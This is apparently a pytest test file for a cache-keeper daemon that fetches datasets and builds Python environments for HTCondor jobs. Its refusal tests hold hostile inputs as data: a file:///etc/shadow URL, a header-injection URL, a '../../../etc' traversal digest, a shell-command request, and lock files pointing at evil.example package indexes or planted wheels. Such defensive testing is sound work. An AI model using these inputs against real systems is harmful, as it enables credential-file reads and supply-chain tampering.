"""The workstation's cache keeper on its own (the personal pool's tests run it under
HTCondor): it fetches a dataset for a job and holds it while the job stays connected, lets
it go when the job goes, keeps what jobs may see to the entries they were given, and
refuses what is not a request it serves: a Python someone other than root could change,
a URL that is not http(s), a digest that is not one."""

import hashlib
import http.server
import importlib.util
import io
import json
import os
import socket
import stat
import subprocess
import sys
import tarfile
import threading
from pathlib import Path

import pytest

from jobs.runtime import cache_keeper, nightshift_data
from tests.helpers import wait_for

DAEMON = Path("jobs/runtime/cache_keeper_daemon.py")
CREDENTIAL = "job-credential-123"


def canonical_archive() -> bytes:
    payload = b"whiskers,paws\n" * 1000
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        member = tarfile.TarInfo("cats.csv")
        member.size = len(payload)
        archive.addfile(member, io.BytesIO(payload))
    return buffer.getvalue()


@pytest.fixture
def portal():
    """A stand-in for the portal's archive address: it answers only the job's credential."""
    archive = canonical_archive()
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(dict(self.headers))
            if self.headers.get("Authorization") != f"Bearer {CREDENTIAL}":
                self.send_error(403)
                return
            self.send_response(200)
            self.send_header("Content-Length", str(len(archive)))
            self.end_headers()
            self.wfile.write(archive)

        def log_message(self, *arguments):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    dataset = {
        "name": "cats",
        "reference": "cats@1",
        "kind": "archive",
        "sha256": hashlib.sha256(archive).hexdigest(),
        "size_bytes": 14000,
        "file_count": 1,
        "url": f"http://127.0.0.1:{server.server_address[1]}/cats.tar",
    }
    yield dataset, asked
    server.shutdown()


@pytest.fixture
def keeper(tmp_path, settings):
    caches = tmp_path / "caches"
    caches.mkdir()
    sock = caches / "keeper.sock"
    process = start_keeper(tmp_path, caches, sock, settings)
    yield caches, str(sock)
    process[0].terminate()
    process[0].wait(timeout=10)


def start_keeper(tmp_path, caches, sock, settings) -> list:
    """The keeper as the kit starts it (in a list, so that a test can start another)."""
    process = subprocess.Popen(
        [
            sys.executable,
            str(DAEMON),
            "--socket",
            str(sock),
            "--env-cache",
            str(caches / "env"),
            "--data-cache",
            str(caches / "data"),
            "--workstation",
            "ws-test",
            "--user",
            "root",
            "--uv",
            str(settings.ENVIRONMENT_UV),
            "--log",
            str(tmp_path / "keeper.log"),
        ]
    )
    wait_for(lambda: sock.exists() and answers(sock), timeout=30, what="the keeper to listen")
    return [process]


def answers(sock: Path) -> bool:
    with socket.socket(socket.AF_UNIX) as probe:
        try:
            probe.connect(str(sock))
        except OSError:
            return False
    return True


def raw(sock: str, line: bytes) -> dict:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(sock)
        connection.sendall(line)
        return json.loads(connection.makefile("rb").readline())


def wait_until_room_is_made_without(entry: Path, caches: Path, what: str) -> None:
    """Making room (a cap of 0) removes `entry` once nothing holds it any more."""
    wait_for(
        lambda: (
            nightshift_data.make_room(str(caches / "data"), set(), 0, lambda line: None)
            or not entry.exists()
        ),
        timeout=20,
        what=what,
    )


def test_a_dataset_is_fetched_for_the_job_and_held_while_it_stays_connected(keeper, portal):
    caches, sock = keeper
    dataset, asked = portal
    held, said = [], []
    request = {"op": "dataset", "dataset": dataset, "credential": CREDENTIAL}
    request["slot"] = "slot1_2@ws-test@host"
    answer = cache_keeper.ask(sock, request, said.append, held)
    assert (Path(answer["target"]) / "cats.csv").read_bytes().startswith(b"whiskers,paws")
    assert answer["received"] > 0
    assert any("fetching" in line for line in said), said
    # Fetched with the job's credential, in the job's slot's name.
    assert asked[-1]["X-Nightshift-Workstation"] == "slot1_2@ws-test@host"

    entry = caches / "data" / "objects" / dataset["sha256"]
    nightshift_data.make_room(str(caches / "data"), set(), 0, said.append)
    assert entry.is_dir(), "removed to make room while a job used it"

    held[0].close()  # the job exits
    wait_until_room_is_made_without(entry, caches, "the keeper to let go once the job went")


# A job as the launcher leaves it: connected to the keeper for as long as it runs.
HOLDING_JOB = """
import sys
sys.path.insert(0, "jobs/runtime")
import cache_keeper
held = []
cache_keeper.ask(sys.argv[1], __import__("json").loads(sys.argv[2]), lambda line: None, held)
print("holding", flush=True)
sys.stdin.read()
"""


def test_a_keeper_started_again_holds_what_running_jobs_hold_until_they_go(
    tmp_path, portal, settings
):
    caches = tmp_path / "caches"
    caches.mkdir()
    sock = caches / "keeper.sock"
    keeper = start_keeper(tmp_path, caches, sock, settings)
    dataset, _ = portal
    request = {"op": "dataset", "dataset": dataset, "credential": CREDENTIAL}
    job = subprocess.Popen(
        [sys.executable, "-c", HOLDING_JOB, str(sock), json.dumps(request)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert job.stdout.readline() == "holding\n"
        keeper[0].kill()  # a crash: condor_master starts it again
        keeper[0].wait(timeout=10)
        sock.unlink()
        keeper[0] = start_keeper(tmp_path, caches, sock, settings)[0]

        entry = caches / "data" / "objects" / dataset["sha256"]
        said = []
        nightshift_data.make_room(str(caches / "data"), set(), 0, said.append)
        assert entry.is_dir(), "removed to make room while a job used it"
        assert "still running" in (tmp_path / "keeper.log").read_text()

        job.stdin.close()  # the job exits
        job.wait(timeout=10)
        wait_until_room_is_made_without(
            entry, caches, "the keeper started again to let go once the job went"
        )
        assert not list((caches / "env" / "locks" / "holds").iterdir())
    finally:
        job.kill()
        keeper[0].terminate()
        keeper[0].wait(timeout=10)


def test_jobs_may_reach_an_entry_they_were_given_and_list_nothing(keeper, portal):
    caches, sock = keeper
    dataset, _ = portal
    request = {"op": "dataset", "dataset": dataset, "credential": CREDENTIAL}
    cache_keeper.ask(sock, request, lambda line: None, [])
    modes = {
        path: stat.S_IMODE(os.stat(caches / path).st_mode)
        for path in (
            "data/objects",
            "data/locks",
            "env/envs",
            "env/locks",
            "env/locks/holds",
            "env/uv",
        )
    }
    assert modes == {
        "data/objects": 0o711,
        "data/locks": 0o700,
        "env/envs": 0o711,
        "env/locks": 0o700,
        "env/locks/holds": 0o700,
        "env/uv": 0o700,
    }
    # Which jobs used which dataset is the keeper's to know.
    assert stat.S_IMODE(os.stat(caches / "data" / "deliveries.jsonl").st_mode) == 0o600


def test_a_refused_fetch_says_why_and_leaves_nothing(keeper, portal):
    caches, sock = keeper
    dataset, _ = portal
    request = {"op": "dataset", "dataset": dataset, "credential": "someone-elses"}
    with pytest.raises(cache_keeper.KeeperRefused, match="refused cats@1"):
        cache_keeper.ask(sock, request, lambda line: None, [])
    assert not (caches / "data" / "objects" / dataset["sha256"]).exists()


def test_a_python_someone_other_than_root_could_change_is_never_run(keeper, tmp_path):
    _, sock = keeper
    writable = tmp_path / "anyone"
    writable.mkdir()
    writable.chmod(0o777)
    python = writable / "python3"
    python.write_text("#!/bin/sh\ntouch /tmp/keeper-ran-it\n")
    python.chmod(0o755)
    request = {"op": "environment", "lock": "six==1.17.0\n", "python": str(python)}
    with pytest.raises(cache_keeper.KeeperRefused, match="not one the keeper may run"):
        cache_keeper.ask(sock, request, lambda line: None, [])
    assert cache_keeper.trusted_python(str(python)) is None
    assert cache_keeper.trusted_python("relative/python") is None


@pytest.mark.parametrize(
    ("line", "refusal"),
    [
        (b"not json\n", "not one line of JSON"),
        (b'{"op": "shell", "command": "id"}\n', "builds environments and datasets"),
        (b'["environment"]\n', "builds environments and datasets"),
    ],
)
def test_what_is_not_a_request_is_refused(keeper, line, refusal):
    _, sock = keeper
    assert refusal in raw(sock, line)["error"]


@pytest.mark.parametrize(
    ("change", "refusal"),
    [
        ({"url": "file:///etc/shadow"}, r"not an http\(s\) URL"),
        ({"url": "http://portal.example/\nX-Injected: 1"}, r"not an http\(s\) URL"),
        ({"sha256": "../../../etc"}, "not a stored version"),
        ({"kind": "shared"}, "not a stored version"),
        ({"size_bytes": "big"}, "has no size"),
    ],
)
def test_a_dataset_request_that_is_not_one_is_refused(keeper, portal, change, refusal):
    caches, sock = keeper
    dataset, asked = portal
    request = {"op": "dataset", "dataset": {**dataset, **change}, "credential": CREDENTIAL}
    with pytest.raises(cache_keeper.KeeperRefused, match=refusal):
        cache_keeper.ask(sock, request, lambda line: None, [])
    assert asked == []  # nothing was fetched: the stand-in portal was never asked


HASH = "--hash=sha256:" + "ab" * 32


@pytest.mark.parametrize(
    "lock",
    [
        f"--extra-index-url https://packages.evil.example/simple\nsix==1.17.0 {HASH}\n",
        f"six @ file:///tmp/planted-1.0-py3-none-any.whl {HASH}\n",
        f"six @ https://packages.evil.example/six.whl {HASH}\n",
        "six==1.17.0\n",
        f'six==1.17.0 ; python_version >= "3" --index-url https://evil.example {HASH}\n',
        f"-e ./planted {HASH}\n",
    ],
)
def test_a_lock_that_is_more_than_pinned_packages_with_hashes_is_not_installed(keeper, lock):
    caches, sock = keeper
    request = {"op": "environment", "lock": lock, "python": os.path.realpath(sys.executable)}
    with pytest.raises(cache_keeper.KeeperRefused, match="more than pinned packages"):
        cache_keeper.ask(sock, request, lambda line: None, [])
    assert list((caches / "env" / "envs").iterdir()) == []


def load_daemon(monkeypatch):
    """The daemon's module, as the kit runs it (its folder first on the path), imported
    without leaving its bare module names behind for other tests."""
    monkeypatch.setattr(sys, "path", list(sys.path))
    for name in ("cache_keeper", "environment_cache", "nightshift_data"):
        monkeypatch.setitem(sys.modules, name, None)
        monkeypatch.delitem(sys.modules, name)
    spec = importlib.util.spec_from_file_location("keeper_daemon_under_test", DAEMON)
    daemon = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(daemon)
    return daemon


def test_a_lock_as_the_portal_writes_it_is_pinned_packages_with_hashes(monkeypatch):
    daemon = load_daemon(monkeypatch)
    lock = (
        "# This file was autogenerated by uv via the following command:\n"
        "numpy==2.3.5 \\\n"
        f"    {HASH} \\\n"
        f"    {HASH.replace('ab', 'cd')}\n"
        "    # via scipy\n"
        'scipy==1.16.3 ; python_version >= "3.11" and sys_platform == "linux" \\\n'
        f"    {HASH}\n"
        f"uvicorn[standard]==0.38.0 {HASH}\n"
    )
    assert daemon.pinned_only(lock)


@pytest.fixture(scope="module")
def lock_text():
    from environments.locking import lock_resolve
    from environments.requirements import requirements_check

    version = "{}.{}".format(*sys.version_info[:2])
    return lock_resolve(requirements_check("tomli-w==1.2.0\n"), python_version=version).text


def test_an_environment_is_built_once_as_its_install_goes_and_then_reused(keeper, lock_text):
    caches, sock = keeper
    python = os.path.realpath(sys.executable)
    request = {"op": "environment", "lock": lock_text, "python": python, "described": "tomli@1"}
    first, said = [], []
    answer = cache_keeper.ask(sock, request, said.append, first)
    # uv's own lines reach the job as the keeper installs, each its own log line.
    assert any(line.startswith("$ ") and "pip sync" in line for line in said), said
    assert "+ tomli-w==1.2.0" in [line.strip() for line in said], said
    assert any("once for every later job" in line for line in said)
    ran = subprocess.run(
        [answer["python"], "-c", "import tomli_w; print(tomli_w.dumps({'ok': True}))"],
        capture_output=True,
        text=True,
    )
    assert ran.stdout.strip() == "ok = true", ran.stderr

    again = []
    answer_again = cache_keeper.ask(sock, request, again.append, [])
    assert answer_again["python"] == answer["python"]
    assert any("reusing environment tomli@1" in line for line in again), again
    assert not any("pip sync" in line for line in again)
